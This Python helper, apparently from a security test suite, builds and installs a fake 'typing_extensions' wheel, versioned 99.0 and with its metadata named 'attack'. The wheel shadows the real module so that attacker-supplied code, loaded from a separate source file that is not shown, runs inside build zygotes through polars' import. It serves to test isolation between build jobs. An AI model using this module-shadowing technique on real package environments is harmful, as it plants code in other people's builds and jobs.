"""Build a wheel that puts its own `typing_extensions` at the top level, and install it.

polars imports that module, and the zygotes of builds import polars: so the module's code runs in
the zygote, before any job does.
"""

import json
import zipfile
from pathlib import Path
from typing import Any

SOURCE = Path(__file__).parent / "typing_extensions_source.py"
NAME = "typing_extensions-99.0"


def install(folder: Path, facts: dict[str, Any]) -> Path:
    """Build the wheel with the facts that an attacker would find out; return where it is put."""
    wheel = folder / f"{NAME}-py3-none-any.whl"
    code = SOURCE.read_text(encoding="utf-8").replace('"FACTS"', repr(json.dumps(facts)))
    with zipfile.ZipFile(wheel, "w") as archive:
        archive.writestr("typing_extensions.py", code)
        archive.writestr(f"{NAME}.dist-info/METADATA", "Metadata-Version: 2.1\nName: attack\n")
        archive.writestr(f"{NAME}.dist-info/WHEEL", "Wheel-Version: 1.0\nTag: py3-none-any\n")
        archive.writestr(f"{NAME}.dist-info/RECORD", "")
    packages = folder / "packages"
    with zipfile.ZipFile(wheel) as archive:
        archive.extractall(packages)
    for path in (folder, packages, *packages.rglob("*")):
        path.chmod(0o755)
    return packages
